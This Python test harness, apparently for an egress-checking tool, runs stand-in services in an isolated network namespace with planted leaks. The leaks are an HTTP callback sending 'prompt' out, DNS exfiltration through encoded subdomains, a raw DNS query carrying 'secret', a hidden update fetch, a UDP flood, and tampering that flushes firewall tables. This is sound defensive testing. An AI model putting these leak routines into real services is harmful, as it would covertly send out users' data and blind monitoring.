# SPDX-License-Identifier: Apache-2.0
"""Runs one egress verification over a site of real processes, and prints the report as JSON.

To be started in a network namespace of its own, with no way out (``unshare --net``). The site is real
enough for the capture: small HTTP servers, each process running as a user of its own, restarted inside the
capture and asked over loopback. One of them may hold a planted leak. The layers, the controls and the rules
are the product's.
"""

from __future__ import annotations

import argparse
import http.client
import json
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Sequence
from pathlib import Path

from moat.console import Console
from moat.site.egresscheck import leftovers, run, signals
from moat.site.egresscheck.allow import parse_all
from moat.site.egresscheck.marks import draw
from moat.site.egresscheck.model import Component, Endpoint, Layer, Probe, RequestResult
from moat.site.egresscheck.nflog import parse_packet
from moat.site.egresscheck.packets import PacketsLayer
from moat.site.egresscheck.sinkhole import DnsLayer
from moat.site.egresscheck.syscalls import SyscallsLayer

COMPONENTS = (
    Component("gateway-1", "standin-gateway@1.service", 64801),
    Component("minio", "standin-minio.service", 64802),
    Component("nginx", "standin-nginx.service", 64803),
)
PORTS = {"gateway-1": 42001, "minio": 42002, "nginx": 42003}

#: A service: answers over loopback, and does what LEAK says. argv: port, leak, delay in seconds.
SERVICE = r"""
import http.client, http.server, socket, subprocess, sys, threading, time, urllib.request
port, leak, delay = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])

def quietly(work):
    try:
        work()
    except OSError:
        pass

def callback():
    urllib.request.urlopen("http://callback.example.com/usage", data=b"prompt", timeout=3)

def metrics():
    for _ in range(3):
        quietly(lambda: socket.create_connection(("203.0.113.20", 4318), timeout=2).close())
        time.sleep(0.2)

def update():
    program = "import http.client as c; c.HTTPSConnection('index.example.org', timeout=3).request('GET', '/pip/')"
    subprocess.run([sys.executable, "-I", "-c", program], stderr=subprocess.DEVNULL)

def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"requests:1|c", ("203.0.113.30", 8125))

def ipv6():
    socket.create_connection(("2001:db8:1::9", 443), timeout=2)

def dns():
    socket.getaddrinfo("c2VjcmV0.exfil.example.net", None)

def rawdns():
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03net\x00\x00\x10\x00\x01"
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ("203.0.113.53", 53))

def nopacket():
    socket.create_connection(("203.0.113.40", 443), timeout=2)

def resolved():
    socket.socket(socket.AF_UNIX).connect("/run/systemd/resolve/io.systemd.Resolve")

def flood():
    for i in range(6000):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            quietly(lambda: s.sendto(b"x", (f"203.0.113.{i % 250 + 1}", 9000 + i % 7)))

def allowed():
    quietly(lambda: socket.create_connection(("203.0.113.60", 8000), timeout=2))
    socket.getaddrinfo("llm.site.example", None)

if leak in globals() and leak != "callback":
    threading.Thread(target=lambda: (time.sleep(delay), quietly(globals()[leak])), daemon=True).start()

class Handler(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        if leak == "callback":
            quietly(callback)
        self.send_response(200); self.send_header("content-length", "2"); self.end_headers(); self.wfile.write(b"ok")
    def log_message(self, *a): pass
    def address_string(self): return "client"

class Server(http.server.ThreadingHTTPServer):
    def server_bind(self):
        socketserver_bind(self)

def socketserver_bind(server):  # without the look-up of our own name that http.server does
    server.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.socket.bind(server.server_address)
    server.server_name, server.server_port = "localhost", port

Server(("127.0.0.1", port), Handler).serve_forever()
"""


class StandInSite:
    kind = "systemd"

    def __init__(self, leak: str, leaker: str, delay: float, broken: str) -> None:
        self._leak, self._leaker, self._delay, self._broken = leak, leaker, delay, broken
        self._running: dict[str, subprocess.Popen[bytes]] = {}

    def components(self) -> list[Component]:
        return list(COMPONENTS)

    def endpoints(self) -> list[Endpoint]:
        return []

    def layers(self, allowed: Sequence[str]) -> list[Layer]:
        entries, marks = parse_all(allowed), draw()
        layers: list[Layer] = [
            DnsLayer(entries, marks),
            PacketsLayer(entries, marks),
            SyscallsLayer(entries, marks),
        ]
        return [Blind(n) if n.name == self._broken else n for n in layers]

    def start(self) -> None:
        for c in COMPONENTS:
            leak = self._leak if c.name == self._leaker else "none"
            argv = ["/usr/bin/python3", "-I", "-c", SERVICE, str(PORTS[c.name]), leak, str(self._delay)]
            self._running[c.name] = subprocess.Popen(argv, user=c.uid, group=c.uid, extra_groups=[], cwd="/")

    def end(self) -> None:
        for process in self._running.values():
            process.kill()
            process.wait()

    def restart(self, components: Sequence[Component]) -> None:
        self.end()
        self.start()

    def subject(self) -> dict[str, str]:
        return {"release": "0.1.0-abc"}

    def changes(self) -> list[str]:
        return [f"{name} ended" for name, process in self._running.items() if process.poll() is not None]

    def requests(self) -> list[RequestResult]:
        return [self._ask(name, port) for name, port in PORTS.items()]

    def _ask(self, name: str, port: int) -> RequestResult:
        deadline = time.monotonic() + 20
        while True:
            try:
                connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
                connection.request("POST", "/v1/chat/completions", b"{}")
                status = connection.getresponse().status
                return RequestResult(name, status, status == 200, "")
            except ConnectionRefusedError as e:
                if time.monotonic() > deadline:
                    return RequestResult(name, 0, False, str(e))
                time.sleep(0.05)

    def probes(self) -> list[Probe]:
        return []

    def rules(self) -> str:
        return subprocess.run(["nft", "list", "ruleset"], capture_output=True, text=True, check=False).stdout


class Blind:
    """A layer whose capture is cut in the middle of the run: what was set for it is taken away by somebody else."""

    def __init__(self, layer: Layer) -> None:
        self._layer = layer
        self.name = layer.name

    def __getattr__(self, name: str) -> object:
        return getattr(self._layer, name)

    def start(self, components: Sequence[Component]) -> None:
        self._layer.start(components)
        if self.name in ("packets", "dns"):
            table = leftovers.PACKETS_TABLE if self.name == "packets" else leftovers.DNS_TABLE
            subprocess.run(["nft", "flush", "table", "inet", table], check=True)
        else:
            import os

            fds = self._layer._fds  # type: ignore[attr-defined]
            os.close(fds.pop())  # the link: the program no longer runs

    def control(self) -> str:
        return self._layer.control()

    def stop(self) -> list[object]:
        return self._layer.stop()  # type: ignore[return-value]


class RootProcess:
    """A process of root in the control group of a component, as a main process that never drops its rights."""

    def __init__(self, unit: str) -> None:
        mounts = [line.split() for line in Path("/proc/self/mounts").read_text("utf-8").splitlines()]
        root = next(Path(fields[1]) for fields in mounts if fields[2] == "cgroup2")
        self._group = root / unit
        self._group.mkdir(exist_ok=True)
        program = (
            f"import os, socket, time; open('{self._group}/cgroup.procs', 'w').write(str(os.getpid()))\n"
            "while True:\n"
            "    try: socket.create_connection(('203.0.113.70', 443), timeout=0.5)\n"
            "    except OSError: time.sleep(0.3)\n"
        )
        self._process = subprocess.Popen(["/usr/bin/python3", "-I", "-c", program])

    def end(self) -> None:
        self._process.kill()
        self._process.wait()
        self._group.rmdir()


class WayOut:
    """A network to the outside: one end of a cable is this host's default route, at the other end we listen."""

    def __init__(self) -> None:
        for words in (
            "link add out type veth peer name far",
            "address add 192.0.2.1/24 dev out",
            "-6 address add 2001:db8:ffff::1/64 dev out nodad",
            "link set out up",
            "link set far up",
            "neighbour add 192.0.2.2 lladdr 02:00:00:00:00:02 dev out",
            "-6 neighbour add 2001:db8:ffff::2 lladdr 02:00:00:00:00:02 dev out",
            "route add default via 192.0.2.2",
            "-6 route add default via 2001:db8:ffff::2",
        ):
            subprocess.run(["ip", *words.split()], check=True)
        self.seen: list[str] = []
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
        self._socket.bind(("far", 3))
        threading.Thread(target=self._listen, daemon=True).start()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:  # proves that what leaves is seen
            s.sendto(b"x", ("203.0.113.99", 9))

    def _listen(self) -> None:
        while True:
            packet = parse_packet(self._socket.recv(2048))
            if packet is not None and not packet.protocol.startswith(("icmpv6", "igmp")):
                self.seen.append(packet.text)


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--leak", default="none")
    parser.add_argument("--leaker", default="gateway-1")
    parser.add_argument("--delay", type=float, default=0.0)
    parser.add_argument("--quiet", type=float, default=1.0)
    parser.add_argument("--allow", action="append", default=[])
    parser.add_argument("--broken", default="")
    parser.add_argument("--prohibit", action="store_true", help="the host refuses the way to 203.0.113.40")
    parser.add_argument("--root", action="store_true", help="a process of root in the unit of nginx tries to leave")
    parser.add_argument("--way-out", action="store_true", help="the host has a default route")
    parser.add_argument("--out", type=Path)
    args = parser.parse_args()
    subprocess.run(["ip", "link", "set", "lo", "up"], check=False)  # without the right to, somebody else has done it
    if args.prohibit:
        subprocess.run(["ip", "route", "add", "prohibit", "203.0.113.40/32"], check=True)
    way_out = WayOut() if args.way_out else None
    before = subprocess.run(["nft", "list", "ruleset"], capture_output=True, text=True, check=False).stdout
    site = StandInSite(args.leak, args.leaker, args.delay, args.broken)
    site.start()
    root = RootProcess("standin-nginx.service") if args.root else None
    try:
        with signals.ended_once(), tempfile.TemporaryDirectory() as folder:
            options = run.Options(args.quiet, tuple(args.allow), settle_seconds=0.3)
            report = run.verify(site, options, Console(quiet=True), lock=Path(folder) / "lock")
    finally:
        site.end()
        if root is not None:
            root.end()
    after = subprocess.run(["nft", "list", "ruleset"], capture_output=True, text=True, check=False).stdout
    if args.out:
        from moat.site.egresscheck.report import write_report

        write_report(report, args.out)
    outside = way_out.seen if way_out else []
    more = {"left": leftovers.present(), "same_rules": before == after, "outside": outside}
    json.dump({**report.to_dict(), **more}, sys.stdout)
    return 0


if __name__ == "__main__":
    sys.exit(main())
